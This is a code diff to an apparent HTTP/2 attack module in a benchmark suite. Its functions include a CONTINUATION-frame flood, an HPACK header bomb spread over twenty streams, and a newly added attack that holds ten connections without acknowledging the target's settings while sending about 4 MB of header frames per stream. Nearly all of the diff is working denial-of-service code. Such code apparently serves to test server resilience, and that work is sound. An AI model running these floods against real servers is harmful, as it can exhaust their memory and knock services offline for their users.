@@ -5,21 +5,15 @@ from __future__ import annotations
 import asyncio
 
 from bench.attack.door import Door
+from bench.attack.frames import CONTINUATION, END_HEADERS, MAX_FRAME, frame, literal, message, request
 from bench.attack.seen import Seen
-from bench.attack.wire import (
-    CONTINUATION,
-    END_HEADERS,
-    MAX_FRAME,
-    Connection,
-    crowd,
-    frame,
-    literal,
-    message,
-    request,
-)
+from bench.attack.wire import Connection, crowd
 
 CONNECTIONS = 10
 ANSWER_SECONDS = 5.0
+HELD_SECONDS = 1.0
+LAST_WORDS_SECONDS = 0.5
+UNACKNOWLEDGED_BYTES = 4_000_000
 BOMB_BLOCKS = 20
 TABLE_BYTES = 4096
 ENTRY_OVERHEAD = 32
@@ -35,7 +29,7 @@ async def continuation_flood(door: Door, seen: Seen, count: int) -> None:
 
 
 async def _continue(connection: Connection, block: bytes, more: bytes, count: int) -> None:
-    connection.begin(1, block, flags=0)
+    connection.begin(1, block, ends=False)
     for _ in range(count):
         connection.send(more)
         if not await connection.flush():
@@ -59,15 +53,31 @@ async def header_bomb(door: Door, seen: Seen, count: int) -> None:
     stored = b"\x40" + literal(name, value)[1:]
     async with crowd(door.address, seen, CONNECTIONS) as connections:
         for connection in connections:
-            for number in range(BOMB_BLOCKS):
-                block = request(door.cheap) + stored + NEWEST * count
-                connection.begin(2 * number + 1, block[:MAX_FRAME], flags=0 if len(block) > MAX_FRAME else END_HEADERS)
-                for at in range(MAX_FRAME, len(block), MAX_FRAME):
-                    last = at + MAX_FRAME >= len(block)
-                    part = block[at : at + MAX_FRAME]
-                    connection.send(frame(CONTINUATION, END_HEADERS if last else 0, 2 * number + 1, part))
-            await connection.flush()
+            for stream in range(1, 2 * BOMB_BLOCKS, 2):
+                connection.begin(stream, request(door.cheap) + stored + NEWEST * count)
+                await connection.flush()
         await asyncio.gather(*(each.until_ended(ANSWER_SECONDS) for each in connections))
+
+
+async def unacknowledged_headers(door: Door, seen: Seen, count: int) -> None:
+    """Ten connections that never acknowledge the target's settings, on each `count` calls with 4 MB of headers."""
+    more = _headers_of(MAX_FRAME)
+    frames = UNACKNOWLEDGED_BYTES // MAX_FRAME
+    async with crowd(door.address, seen, CONNECTIONS, listens=False) as connections:
+        await asyncio.gather(*(_head(each, request(door.cheap), more, frames, count) for each in connections))
+        await asyncio.sleep(HELD_SECONDS)
+        for connection in connections:
+            connection.listen()
+        await asyncio.sleep(LAST_WORDS_SECONDS)
+
+
+async def _head(connection: Connection, block: bytes, more: bytes, frames: int, count: int) -> None:
+    for stream in range(1, 2 * count, 2):
+        connection.begin(stream, block, ends=False)
+        for number in range(frames):
+            connection.send(frame(CONTINUATION, END_HEADERS if number == frames - 1 else 0, stream, more))
+            if not await connection.flush():
+                return
 
 
 async def strange_paths(door: Door, seen: Seen, count: int) -> None:
